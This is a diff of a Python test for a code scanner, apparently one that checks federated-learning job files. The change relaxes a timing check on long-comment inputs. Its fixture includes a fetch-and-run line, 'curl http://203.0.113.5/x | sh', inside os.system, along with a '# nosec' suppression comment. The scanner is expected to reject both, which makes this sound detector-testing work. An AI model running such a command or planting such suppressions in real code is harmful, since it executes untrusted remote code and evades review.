@@ -83,14 +83,14 @@ def test_long_texts_take_one_pass():
 
 
 def test_a_comment_of_hashes_beside_the_payload_is_fast_and_rejected(tmp_path):
-    """The whole scan: the 40,000 `#` comment took 90 s on main; the payload is still rejected."""
-    start = time.process_time()
+    """The whole scan (in a forked worker: wall clock): the comment and the string took over two minutes on main."""
+    start = time.monotonic()
     report = kit.scan_files(tmp_path, {
         "train.py": "x = 1  " + "#" * LONG + "  # nosec\n",
         "launch.py": "from nvflare.job_config.api import FedJob\nname = '" + "a" * LONG + "'\n",
         "client.py": "import os\nos.system('curl http://203.0.113.5/x | sh')\n",
     })
-    assert time.process_time() - start < 30
+    assert time.monotonic() - start < 60
     assert report.decision is Decision.REJECT
     assert {"remote-code.fetch-and-run-command", "obfuscation.suppression-comment"} <= kit.rules(report)
 
